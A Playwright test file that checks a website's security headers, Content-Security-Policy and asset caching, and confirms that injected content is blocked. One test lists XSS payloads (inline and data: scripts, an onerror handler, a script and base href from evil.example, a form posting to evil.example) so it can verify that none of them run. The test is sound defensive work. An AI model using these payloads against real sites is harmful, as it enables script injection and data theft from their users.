import { expect, test } from '@playwright/test'
import { policyOf } from '../scan/answer'
import { kinds } from '../scan/paths'
import { ask } from './ask'
import { endOfStory, openLive, scrollBy } from './story'

declare global {
  interface Window {
    /** What the page's policy has kept from happening. */
    violations: string[]
    injected?: boolean
  }
}

for (const { path, is, shared, status: expected = 200 } of kinds)
  test(`${path} tells browsers what it may do and who may have it`, async () => {
    const answer = await ask(path)
    const { status, headers } = answer
    expect(status).toBe(expected)
    const policy = String(headers['content-security-policy'])
    expect(policy).toMatch(/^default-src 'none'/)
    if (is === 'inert') expect(policy).not.toContain('script')
    else expect(named(policyOf(answer))).not.toMatch(/unsafe|\*/)
    if (is === 'framed page') expect(policy).not.toContain('frame-ancestors')
    else expect(policy).toContain("frame-ancestors 'none'")
    expect(headers['cross-origin-opener-policy']).toBe(is === 'framed page' ? undefined : 'same-origin')
    expect(headers['access-control-allow-origin']).toBe(shared ? '*' : undefined)
    expect(headers['cross-origin-resource-policy']).toBe(
      shared || is === 'framed page' ? 'cross-origin' : undefined,
    )
    expect(headers['cross-origin-embedder-policy']).toBe(is === 'framed page' ? 'require-corp' : undefined)
    expect(headers['strict-transport-security']).toMatch(/^max-age=\d{8}/)
    expect(headers['x-content-type-options']).toBe('nosniff')
    expect(headers['referrer-policy']).toBe('strict-origin-when-cross-origin')
    expect(headers['permissions-policy']).toContain('geolocation=()')
    expect(headers['x-frame-options']).toBeUndefined()
    expect(headers['x-powered-by']).toBeUndefined()
  })

test('our own scripts, styles and fonts may be kept for ever and loaded by a frame of any origin', async () => {
  const html = (await ask('/')).body.toString()
  const assets = new Set(html.match(/\/(?:_next\/static|fonts)\/[\w./-]+\.(?:js|woff2)/g))
  expect(assets.size).toBeGreaterThan(4)
  for (const path of assets) {
    const { status, headers } = await ask(path)
    expect(status, path).toBe(200)
    expect(headers['cache-control']?.split(/, ?/), path).toEqual(['public', 'max-age=31536000', 'immutable'])
    expect(headers['access-control-allow-origin'], path).toBe('*')
    expect(headers['cross-origin-resource-policy'], path).toBe('cross-origin')
    // A worker of an embed must have it.
    if (path.endsWith('.js')) expect(headers['cross-origin-embedder-policy'], path).toBe('require-corp')
  }
})

for (const path of ['/', '/step/rail'])
  test(`a whole visit to ${path} asks for nothing that its policy forbids`, async ({ page }) => {
    await page.addInitScript(() => {
      window.violations = []
      document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI, sample }) =>
        window.violations.push(`${violatedDirective}: ${blockedURI} ${sample}`),
      )
    })
    await openLive(page, path)
    await page.locator('nav summary').click()
    await page.locator('nav summary').click()
    await scrollBy(page, 0, 400)
    await scrollBy(page, await endOfStory(page), 160)
    await page.locator('#unknown .share summary').click()
    await page.setViewportSize({ width: 1280, height: 800 })
    await page.emulateMedia({ colorScheme: 'dark' })
    await scrollBy(page, 0, 400)
    expect(await page.evaluate(() => window.violations)).toEqual([])
  })

test.describe('in a page that someone has smuggled something into', () => {
  const smuggled = `
    <script>window.injected = true</script>
    <img src="x" onerror="window.injected = true" alt="">
    <script src="data:text/javascript,window.injected=true"></script>
    <script src="https://evil.example/x.js"></script>
    <iframe srcdoc="<script>parent.injected = true</script>"></iframe>
    <base href="https://evil.example/">
    <style>h1 { outline: 3px solid rgb(1, 2, 3) }</style>`

  test('nothing of it runs, loads or sends, and the story goes on', async ({ page }) => {
    const asked: string[] = []
    await page.route('https://evil.example/**', (route) => {
      asked.push(route.request().url())
      return route.abort()
    })
    await page.route('**/step/najin', async (route) => {
      const answer = await route.fetch()
      const body = (await answer.text()).replace('<main>', `${smuggled}<main>`)
      await route.fulfill({ response: answer, body })
    })
    await page.addInitScript(() => {
      window.violations = []
      document.addEventListener('securitypolicyviolation', ({ violatedDirective }) =>
        window.violations.push(violatedDirective),
      )
    })
    await page.goto('/step/najin')
    await expect(page.locator('#najin h2')).toBeVisible()
    await page.locator('#stage[data-painter=live]').waitFor()
    await page.evaluate(() => {
      const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/' })
      document.body.append(form)
      form.submit()
    })
    await expect
      .poll(() => page.evaluate(() => [...new Set(window.violations)].sort()))
      .toEqual(['base-uri', 'form-action', 'script-src-attr', 'script-src-elem', 'style-src-elem'])
    expect(await page.evaluate(() => window.injected)).toBeUndefined()
    expect(asked).toEqual([])
  })
})

/** A policy without what components/server/README.md says is left open, and without the ports of a site that has no address but localhost. */
function named(policy: string): string {
  return policy.replace("style-src-attr 'unsafe-inline'", '').replace(' http://localhost:*', '')
}
